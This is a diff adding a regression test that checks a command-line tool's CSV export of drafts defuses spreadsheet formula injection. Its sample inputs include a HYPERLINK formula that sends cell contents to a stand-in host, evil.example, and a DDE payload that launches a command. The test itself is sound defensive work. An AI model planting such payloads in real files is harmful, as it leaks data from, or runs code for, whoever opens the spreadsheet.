@@ -190,3 +190,34 @@ def test_send_now_or_retry_on_a_post_another_crier_is_sending_never_sends_it_twi
     engine.run_once()
     assert [text for _, text, _ in net.posts[account]] == ["Bins collected a day late this week"]
     assert Outbox(db).get(post_id).state.value == "sent"
+
+
+# -- exports ------------------------------------------------------------------------------------------
+
+
+def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_from_a_draft(db) -> None:  # noqa: ANN001
+    """A resident's message pasted into a draft (``=HYPERLINK(...)``, ``@SUM(...)``, ``-2+3``) went into
+    ``crier drafts export --format csv`` as it was, so Excel or LibreOffice, where a comms team opens its
+    FOI record, ran it as a formula. Each such cell now starts with an apostrophe, as OWASP advises."""
+    import csv
+    import io
+
+    from desktop.core.store import DraftStore
+    from tests.test_cli import crier
+
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+44 7700",
+        "-2+3",
+    ]
+    for text in hostile:
+        DraftStore(db).create(title=text, body=text)
+    result = crier("drafts", "export", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert len(rows) == len(hostile)
+    for row in rows:
+        for column in ("title", "text"):
+            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
+            assert row[column].lstrip("'") in hostile
